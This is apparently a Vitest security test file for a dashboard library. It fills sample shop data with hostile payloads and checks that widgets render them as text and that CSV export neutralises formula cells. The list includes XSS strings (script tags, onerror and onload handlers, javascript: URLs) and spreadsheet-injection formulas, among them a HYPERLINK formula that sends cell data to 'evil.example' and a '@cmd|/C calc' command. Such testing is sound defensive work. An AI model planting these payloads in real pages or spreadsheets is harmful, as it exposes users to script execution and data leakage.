// @vitest-environment happy-dom
import { act } from 'preact/test-utils';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { isIn, Selection } from '@clvkit/core';
import { createEngine, toCsv, type Engine } from '@clvkit/engine';
import { generateShop } from '@clvkit/sample-data';
import { observeQueryStates } from '../src/data/query-events.js';
import { CustomerList, Dashboard, EntityView, FilterChips, preload, PRESET_NAMES, PRESETS, WIDGETS } from '../src/index.js';
import { interact, key, renderInto, settle } from './helpers.js';

/**
 * Hostile text (issue 7): a shop whose product, category, client, promotion, sales channel
 * (dimension), campaign and customer attribute values are HTML, script, SVG, CSS, template and
 * spreadsheet-formula payloads, control and bidi characters and very long strings. Every
 * dashboard preset (which together use every widget type of the registry), the entity views
 * and the customer list run on the real engine (inline) over it. Each widget must show the
 * payloads as text (labels, tables, legends, tooltips, titles) and never as markup: no element
 * or event-handler attribute from the data, no script run, no stylesheet from the data; and the
 * CSV export writes formula-looking cells with a leading apostrophe.
 */

/** Long enough to overflow every label; truncation must cut it as text. */
const LONG = `LONG${'x'.repeat(4000)}`;

/** The payloads: each is the start of a value, so the formula ones really start their cell. */
export const PAYLOADS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>window.__pwned=1</script>',
  '<svg onload=alert(1)><circle r=9 /></svg>',
  '</style><style>*{display:none}</style>',
  '"><b onmouseover=alert(1)>bold</b>',
  "'><iframe src=javascript:alert(1)></iframe>",
  'JaVaScRiPt:alert(1)//',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+SUM(1)',
  '-1+1',
  '@cmd|/C calc',
  '\t=1+1',
  '\r=1+1',
  '\u202Egnp.exe',
  'zero\u200Bwidth\u200D\uFEFF',
  LONG,
];

/** Payloads that a spreadsheet would run as a formula: their CSV cell must start with an apostrophe. */
const FORMULAS = PAYLOADS.filter((p) => /^[=+\-@\t\r]/.test(p));

/** The first characters of a payload as imported (trimmed): what still shows after a label is truncated. */
const marker = (payload: string) => payload.trim().slice(0, 6);

/** Text fields made hostile, per table. `channel` stays (the communications analyses key on it). */
const HOSTILE_FIELDS: Record<string, readonly string[]> = {
  sessions: ['client', 'promotion_id', 'dimension'],
  customers: ['client', 'gender', 'location', 'region', 'email'],
  lines: ['product', 'category'],
  messages: ['client', 'campaign'],
};

/**
 * The sample shop with every value of the hostile fields replaced, consistently across tables
 * (a client id maps to the same hostile id everywhere): payloads are dealt round-robin per field
 * and a counter keeps distinct values distinct.
 */
function hostileShop() {
  const shop = generateShop({ orders: 2000, seed: 7 });
  const maps = new Map<string, Map<string, string>>();
  const hostile = (field: string, value: unknown): unknown => {
    if (typeof value !== 'string') return value;
    let map = maps.get(field);
    if (!map) maps.set(field, (map = new Map()));
    let out = map.get(value);
    if (out === undefined) {
      out = `${PAYLOADS[map.size % PAYLOADS.length]} ${map.size}`;
      map.set(value, out);
    }
    return out;
  };
  const wrap = <T extends { data: Iterable<unknown> }>(table: T, fields: readonly string[]): T => ({
    ...table,
    data: {
      *[Symbol.iterator]() {
        for (const row of table.data as Iterable<Record<string, unknown>>) {
          const copy = { ...row };
          for (const field of fields) copy[field] = hostile(field === 'client' ? 'client' : field, copy[field]);
          yield copy;
        }
      },
    },
  });
  const input = {
    sessions: wrap(shop.input.sessions, HOSTILE_FIELDS.sessions),
    customers: wrap(shop.input.customers, HOSTILE_FIELDS.customers),
    lines: wrap(shop.input.lines, HOSTILE_FIELDS.lines),
    messages: wrap(shop.input.messages, HOSTILE_FIELDS.messages),
  };
  return { input, options: shop.options, maps };
}

let engine: Engine;
let shop: ReturnType<typeof hostileShop>;
const alert = vi.fn();
const stopObserving: (() => void)[] = [];
/** Widget queries whose latest state is loading. */
const loading = new Set<string>();

beforeAll(async () => {
  window.alert = alert;
  shop = hostileShop();
  engine = createEngine({ source: { kind: 'import', input: shop.input, options: shop.options }, worker: 'inline' });
  await engine.ready();
  await Promise.all(PRESET_NAMES.map((name) => preload(PRESETS[name].layout)));
  const stop = observeQueryStates(({ source, spec, state }) => {
    const id = `${source}\u0000${JSON.stringify(spec)}`;
    if (state.status === 'loading') loading.add(id);
    else loading.delete(id);
  });
  if (typeof stop === 'function') stopObserving.push(stop);
}, 180_000);

afterAll(() => {
  for (const stop of stopObserving) stop();
  engine?.destroy();
});

/** Waits until no widget query is loading and nothing shows busy (model fits included). */
async function ready(root: Element): Promise<void> {
  await settle();
  await new Promise((resolve) => setTimeout(resolve, 150));
  const busy = () => loading.size > 0 || root.querySelector('.clv-loading, [aria-busy="true"]') !== null;
  const start = Date.now();
  while (Date.now() - start < 150_000 && busy()) await settle(1);
  expect(busy()).toBe(false);
}

/** Hovers every mark and plot (and sweeps the scatter plots) so the tooltips render; checks and records each tooltip shown. */
async function hoverEverything(root: Element): Promise<void> {
  const hover = async (el: Element, points: readonly (readonly [number, number])[]) => {
    for (const [x, y] of points) {
      await interact(() => {
        el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true, clientX: x, clientY: y }));
        el.dispatchEvent(new MouseEvent('mouseenter', { clientX: x, clientY: y }));
        el.dispatchEvent(new MouseEvent('mousemove', { bubbles: true, clientX: x, clientY: y }));
        el.dispatchEvent(new PointerEvent('pointermove', { bubbles: true, clientX: x, clientY: y }));
      });
      recordTooltips(root);
    }
  };
  const targets = root.querySelectorAll('svg, [tabindex], button, [data-key], .clv-bar, .clv-donut-slice, .clv-heat-cell, .clv-bin');
  for (const el of [...targets].slice(0, 400)) await hover(el, [[40, 60], [160, 60], [280, 60]]);
  // Scatter points are drawn on a canvas: sweep the hit layer so the nearest points' tooltips show.
  const sweep: [number, number][] = [];
  for (let x = 0; x <= 480; x += 32) for (let y = 0; y <= 320; y += 24) sweep.push([x, y]);
  for (const hit of root.querySelectorAll('.clv-scatter-hit')) await hover(hit, sweep);
}

/** Tooltips are transient: each one shown must be markup-free; its payloads count for its widget. */
function recordTooltips(root: Element): void {
  for (const tooltip of root.querySelectorAll('.clv-tooltip')) {
    const widget = tooltip.closest('.clv-widget');
    expect(markupFromData(tooltip)).toEqual([]);
    if (!widget) continue;
    const type = typeOf(widget);
    const entry = tooltips.get(type) ?? new Set<string>();
    for (const p of payloadsIn(tooltip.textContent ?? '')) entry.add(p);
    tooltips.set(type, entry);
  }
}

/** Per widget type: the payloads its tooltips showed as text. */
const tooltips = new Map<string, Set<string>>();

/** Element names that data must never create inside a widget. */
const FORBIDDEN_TAGS = ['img', 'script', 'iframe', 'object', 'embed', 'b', 'style', 'link', 'math', 'base', 'form', 'meta'];

/** Every way the payloads could have become markup: elements, handler attributes, URLs, styles. */
function markupFromData(root: Element): string[] {
  const found: string[] = [];
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (FORBIDDEN_TAGS.includes(tag)) found.push(`<${tag}>`);
    if (tag === 'circle' && el.getAttribute('r') === '9') found.push('<circle r=9> from the data');
    for (const attr of el.getAttributeNames()) {
      const value = el.getAttribute(attr) ?? '';
      if (attr.startsWith('on')) found.push(`${tag}[${attr}]`);
      if ((attr === 'href' || attr === 'src' || attr === 'xlink:href' || attr === 'action') && /javascript:/i.test(value)) found.push(`${tag}[${attr}=${value}]`);
      // d3-brush hides its handles through the CSSOM (allowed by CSP); only a style from the data is a defect.
      if (attr === 'style' && payloadsIn(value).length > 0) found.push(`${tag}[style=${value}]`);
    }
  }
  return found;
}

/** The text a person (or a screen reader) is shown: text nodes, SVG titles, title and aria-label attributes. */
function shownText(root: Element): string {
  const parts = [root.textContent ?? ''];
  for (const el of root.querySelectorAll('[title], [aria-label], [aria-valuetext]')) {
    parts.push(el.getAttribute('title') ?? '', el.getAttribute('aria-label') ?? '', el.getAttribute('aria-valuetext') ?? '');
  }
  return parts.join('\n');
}

/** Which payloads a piece of text shows. */
const payloadsIn = (text: string) => PAYLOADS.filter((p) => text.includes(marker(p)));

/** The `clv-<type>` class of a widget root. */
const typeOf = (el: Element) => [...el.classList].find((c) => c.startsWith('clv-') && !['clv-root', 'clv-widget', 'clv-wide'].includes(c)) ?? '?';

/** Per widget type: how many widgets were mounted and which payloads they showed as text. */
const seen = new Map<string, { mounted: number; payloads: Set<string> }>();

/** The page-wide checks: no script ran, no stylesheet from the data reached the document. */
function pageIsClean(): void {
  expect(alert).not.toHaveBeenCalled();
  expect((window as unknown as { __pwned?: unknown }).__pwned).toBeUndefined();
  for (const style of document.querySelectorAll('style')) expect(style.textContent).not.toContain('*{display:none}');
  const adopted = (document as unknown as { adoptedStyleSheets?: CSSStyleSheet[] }).adoptedStyleSheets ?? [];
  for (const sheet of adopted) for (const rule of [...sheet.cssRules]) expect(rule.cssText).not.toContain('display:none');
  expect(document.querySelector('body img, body script:not([src]), body iframe')).toBeNull();
}

/** Checks one rendered tree: per widget, no markup from the data, no error; records the payloads shown. */
function inspect(root: Element): void {
  const widgets = [...root.querySelectorAll('.clv-widget')];
  expect(widgets.length).toBeGreaterThan(0);
  for (const widget of widgets) {
    const type = typeOf(widget);
    expect(markupFromData(widget), type).toEqual([]);
    expect([...widget.querySelectorAll('.clv-error-detail')].map((e) => e.textContent), type).toEqual([]);
    const entry = seen.get(type) ?? { mounted: 0, payloads: new Set<string>() };
    entry.mounted++;
    for (const p of payloadsIn(shownText(widget))) entry.payloads.add(p);
    seen.set(type, entry);
  }
  pageIsClean();
}

describe('hostile names in every widget', () => {
  test('the hostile shop keeps every row: the import takes the payloads as plain values', { timeout: 60_000 }, async () => {
    const products = await engine.query({ kind: 'aggregate', table: 'lines', groupBy: [{ field: 'product' }], measures: ['orders'] });
    expect(products.rows.length).toBe(shop.maps.get('product')!.size);
    // The importer trims surrounding whitespace (a leading tab or CR included), nothing else.
    for (const row of products.rows) expect(PAYLOADS.some((p) => String(row.product).startsWith(p.trim())), String(row.product)).toBe(true);
  });

  for (const preset of PRESET_NAMES) {
    test(`${preset}: payloads render as text, never as markup; tooltips too`, { timeout: 240_000 }, async () => {
      const Layout = PRESETS[preset].layout;
      const r = renderInto(
        <Dashboard engine={engine} selection={new Selection()}>
          <Layout />
        </Dashboard>,
      );
      try {
        await ready(r.container);
        await hoverEverything(r.container);
        await settle();
        inspect(r.container);
        // Tabbed panels (the CLV segment views) render one tab at a time: open each.
        const tabs = [...r.container.querySelectorAll('[role="tab"]')].slice(1);
        for (const tab of tabs) {
          await interact(() => (tab as HTMLElement).click());
          await ready(r.container);
          await hoverEverything(r.container);
          inspect(r.container);
        }
      } finally {
        r.unmount();
      }
    });
  }

  test('the entity views of a hostile product, client, promotion and channel', { timeout: 240_000 }, async () => {
    const pick = (field: string, index: number) => [...shop.maps.get(field)!.values()][index];
    const entities = [
      ['product', pick('product', 0)],
      ['client', pick('client', 1)],
      ['promotion', pick('promotion_id', 2)],
      ['dimension', pick('dimension', 0)],
    ] as const;
    for (const [type, value] of entities) {
      const r = renderInto(
        <Dashboard engine={engine} selection={new Selection()}>
          <EntityView type={type} value={value} />
        </Dashboard>,
      );
      try {
        await ready(r.container);
        await hoverEverything(r.container);
        inspect(r.container);
        expect(shownText(r.container), type).toContain(value.slice(0, 20));
      } finally {
        r.unmount();
      }
    }
  });

  test('"bought with" a hostile product, and the filter chips of hostile clauses', { timeout: 120_000 }, async () => {
    const selection = new Selection();
    const product = [...shop.maps.get('product')!.values()][0];
    const BoughtWith = WIDGETS['bought-with'].component;
    const r = renderInto(
      <Dashboard engine={engine} selection={selection}>
        <FilterChips />
        <BoughtWith anchor={product} />
      </Dashboard>,
    );
    try {
      await ready(r.container);
      const values = ['product', 'client', 'promotion_id', 'dimension'].map((field) => {
        const all = [...shop.maps.get(field)!.values()];
        return [field, all[Math.min(3, all.length - 1)].trim()] as const;
      });
      for (const [field, value] of values) await interact(() => selection.update({ source: `host-${field}`, predicate: isIn(field, [value]) }));
      await settle();
      inspect(r.container);
      const chips = r.container.querySelector('.clv-filter-bar')!;
      expect(markupFromData(chips)).toEqual([]);
      for (const [, value] of values) expect(shownText(chips)).toContain(value.slice(0, 12));
      seen.set('clv-filter-chips', { mounted: 1, payloads: new Set(payloadsIn(shownText(chips))) });
      const boughtWith = r.container.querySelector('.clv-bought-with')!;
      expect(payloadsIn(shownText(boughtWith)).length).toBeGreaterThan(0);
    } finally {
      r.unmount();
    }
  });

  test('searching for a payload lists hostile names as text, and Enter opens the entity view', { timeout: 240_000 }, async () => {
    const Search = PRESETS.search.layout;
    const r = renderInto(
      <Dashboard engine={engine} selection={new Selection()}>
        <Search />
      </Dashboard>,
    );
    try {
      const input = r.container.querySelector('input[role="combobox"]') as HTMLInputElement;
      await act(async () => {
        input.focus();
        input.value = '<svg onload';
        input.dispatchEvent(new Event('input', { bubbles: true }));
      });
      const start = Date.now();
      while (!r.container.querySelector('[role="option"]') && Date.now() - start < 60_000) await settle(1);
      const options = [...r.container.querySelectorAll('[role="option"]')];
      expect(options.length).toBeGreaterThan(0);
      expect(options.every((o) => (o.textContent ?? '').includes('<svg onload=alert(1)>'))).toBe(true);
      inspect(r.container);
      await act(async () => key(input, 'ArrowDown'));
      await act(async () => key(input, 'Enter'));
      await ready(r.container);
      expect(r.container.querySelector('.clv-entity-view-body')!.getAttribute('data-entity-value')).toMatch(/^<svg onload=alert\(1\)>/);
      inspect(r.container);
    } finally {
      r.unmount();
    }
  });

  test('every widget type of the registry was mounted, and those that show names showed the payloads as text', () => {
    // The root class of each registry widget (`clv-<widget>` of its shell; the A/B comparison
    // and differences charts are scatters, the date customers are churners or newcomers).
    const ALIAS: Record<string, string> = {
      'clv-bars': 'clv-clv-bars',
      'clv-rates': 'clv-clv-rates',
      'clv-timeline': 'clv-clv-timeline',
      'segment-split': 'clv-clv-segment-split',
      'top-customers': 'clv-clv-top-customers',
      'least-engaged': 'clv-clv-least-engaged',
      'date-customers': 'clv-clv-churners',
      'ab-test-comparison': 'clv-scatter',
      'ab-test-differences': 'clv-scatter',
    };
    const missing = Object.keys(WIDGETS).filter((name) => !seen.has(ALIAS[name] ?? `clv-${name}`));
    expect(missing).toEqual([]);
    // Every payload reached the screen as text somewhere.
    const all = new Set([...seen.values()].flatMap((e) => [...e.payloads]));
    // Tooltips showed hostile names too (the scatter's customer ids, the line chart's series).
    expect([...tooltips.values()].some((t) => t.size > 0)).toBe(true);
    expect(PAYLOADS.filter((p) => !all.has(p)).map(marker)).toEqual([]);
    const table = [...seen.entries()].sort().map(([type, e]) => `${type}: ${e.mounted} renders checked, ${e.payloads.size}/${PAYLOADS.length} payloads shown as text${tooltips.has(type) ? `, ${tooltips.get(type)!.size} in tooltips` : ''}`);
    console.log(`hostile text: ${PAYLOADS.length} payloads × ${seen.size} widget types\n${table.join('\n')}`);
  });
});

/** A CSV cell as RFC 4180 writes it: quoted (quotes doubled) when it holds a comma, quote or line break. */
const cellOf = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);

describe('CSV export of hostile names', () => {
  test('toCsv: each formula payload gets a leading apostrophe; other text stays as it is; numbers stay numbers', () => {
    const rows = PAYLOADS.map((p, i) => ({ client: p, amount: i % 2 === 0 ? -i : i }));
    const csv = toCsv(rows, ['client', 'amount'], { newline: '\n' });
    // The exact cells, written out by hand: quotes double, cells with a comma, quote or line break are quoted.
    const expected: Record<string, string> = {
      '=HYPERLINK("http://evil.example/?"&A1,"Click")': `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
      '+SUM(1)': `'+SUM(1)`,
      '-1+1': `'-1+1`,
      '@cmd|/C calc': `'@cmd|/C calc`,
      '\t=1+1': `'\t=1+1`,
      '\r=1+1': `"'\r=1+1"`,
      '<img src=x onerror=alert(1)>': '<img src=x onerror=alert(1)>',
      '"><b onmouseover=alert(1)>bold</b>': `"""><b onmouseover=alert(1)>bold</b>"`,
    };
    const lines = csv.split('\n');
    expect(lines[0]).toBe('client,amount');
    for (const [payload, cell] of Object.entries(expected)) {
      const i = PAYLOADS.indexOf(payload);
      expect(csv, JSON.stringify(payload)).toContain(`${cell},${i % 2 === 0 ? -i : i}\n`);
    }
    // A negative amount is a number, not a formula.
    expect(csv).toContain(`,-2\n`);
    expect(csv).not.toContain(`'-2`);
  });

  test('the customer list exports the hostile client ids with every formula cell guarded', { timeout: 120_000 }, async () => {
    let exported = '';
    const r = renderInto(
      <Dashboard engine={engine} selection={new Selection()}>
        <CustomerList download={(csv: string) => (exported = csv)} />
      </Dashboard>,
    );
    try {
      await ready(r.container);
      inspect(r.container);
      const button = r.container.querySelector('.clv-export') as HTMLButtonElement;
      await act(async () => button.click());
      const start = Date.now();
      while (!exported && Date.now() - start < 30_000) await settle(1);
      const lines = exported.split('\r\n');
      const header = lines[0].split(',');
      const clientColumn = header.findIndex((h) => /client|customer/i.test(h));
      expect(clientColumn).toBeGreaterThanOrEqual(0);
      const clients = [...shop.maps.get('client')!.values()];
      let guarded = 0;
      for (const client of clients.filter((c) => FORMULAS.some((f) => c.startsWith(f)))) {
        // The guarded cell exactly: apostrophe, then the id, quoted (quotes doubled) when it holds a comma, quote or line break.
        if (exported.includes(cellOf(`'${client}`))) guarded++;
        // Never unguarded as a cell.
        const bare = cellOf(client);
        expect(exported.includes(`,${bare}`) || exported.includes(`\r\n${bare}`), JSON.stringify(client)).toBe(false);
      }
      expect(guarded).toBeGreaterThan(0);
    } finally {
      r.unmount();
    }
  });
});
